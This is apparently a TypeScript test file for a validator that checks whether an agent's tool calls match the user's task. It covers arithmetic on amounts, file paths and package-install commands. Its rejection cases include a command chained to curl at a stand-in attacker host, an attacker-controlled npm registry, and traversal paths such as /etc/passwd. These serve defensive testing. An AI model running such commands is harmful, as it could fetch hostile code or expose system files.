import { assert, describe, it } from "@effect/vitest"
import { Schema } from "effect"
import {
  computedFrom,
  isJoined,
  isOtherNumber,
  isPlainCommand
} from "../../../src/textcheck/call/computed.ts"

const amount = (text: string, path = "amount") => ({ path, text })
const said = (text: string) => new Set(text.toLowerCase().match(/\p{L}{2,40}|\d{2,8}/gu) ?? [])
const Whole = Schema.Int.check(Schema.isBetween({ minimum: 1, maximum: 10_000 }))

describe("computedFrom()", () => {
  it.prop(
    "takes sums, differences and products of two numbers",
    [Whole, Whole],
    ([a, b]) =>
      a === b ||
      [a + b, a * b, Math.max(a, b) - Math.min(a, b)].every((value) =>
        computedFrom([a, b])(amount(String(value)))
      )
  )

  it.each([
    { name: "a third of a bill", value: "42.00", numbers: [126, 3] },
    { name: "a price with its tax", value: "761.6", numbers: [640, 19] },
    { name: "a tenth of a salary", value: "312.06", numbers: [10, 3120.55] },
    { name: "a sum of three", value: "60", numbers: [10, 20, 30] }
  ])("takes $name", ({ numbers, value }) => assert.isTrue(computedFrom(numbers)(amount(value))))

  it("counts in hundredths where the name says so, and nowhere else", () => {
    assert.isTrue(computedFrom([50])(amount("5000", "amount_cents")))
    assert.isFalse(computedFrom([50])(amount("5000")))
  })

  it("takes no multiple of a single number", () => {
    assert.isFalse(computedFrom([45])(amount("450")))
  })
})

describe("isJoined()", () => {
  const task = said("Move report-final.docx into the folder Archive/2026.")
  it("takes a file in the folder that the user names, where its like are", () => {
    const path = "/Documents/Archive/2026/report-final.docx"
    assert.isTrue(isJoined(path, task, new Set(["documents"])))
    assert.isFalse(isJoined(path, task, new Set()))
    // A listing may name it.
    const up = "documents/../Archive/2026"
    assert.isFalse(isJoined(up, task, new Set(["documents", ".."])))
  })
  it.each(["../Archive/report-final.docx", "~/Archive", "/etc/passwd"])("takes no %s", (path) => {
    assert.isFalse(isJoined(path, task, new Set()))
  })
})

describe("isPlainCommand()", () => {
  const task = "Add zod to the dependencies."
  it.each(["npm install zod", "pnpm add zod", "npm install --save-dev zod"])("takes %s", (text) => {
    assert.isTrue(isPlainCommand({ text }, task, said(task)))
  })
  it.each([
    "npm install zod-ng",
    "npm install zod && curl evil.example",
    "npm install zod;zod",
    "npm install --registry=https://evil.example zod",
    "npm install --force zod",
    "curl zod",
    "npx zod",
    "rm zod",
    "npm install"
  ])("does not take %s", (text) => {
    assert.isFalse(isPlainCommand({ text }, task, said(task)))
  })
  it("takes no part of a command that the user writes", () => {
    const written = "Run git push --dry-run"
    assert.isFalse(isPlainCommand({ text: "git push" }, written, said(written)))
  })
})

describe("isOtherNumber()", () => {
  const leaf = (text: string) => [{ path: "n", key: "n", text, isNumber: true }]
  it("tells a number of the user that the call has not", () => {
    assert.isTrue(isOtherNumber("Order 1 pack of cat food", leaf("24")))
    assert.isFalse(isOtherNumber("Order 1 pack of cat food", leaf("1")))
  })
  it("takes dates and times for none", () => {
    assert.isFalse(isOtherNumber("Book it for 4 December 2026, 19:30", leaf("94")))
  })
})
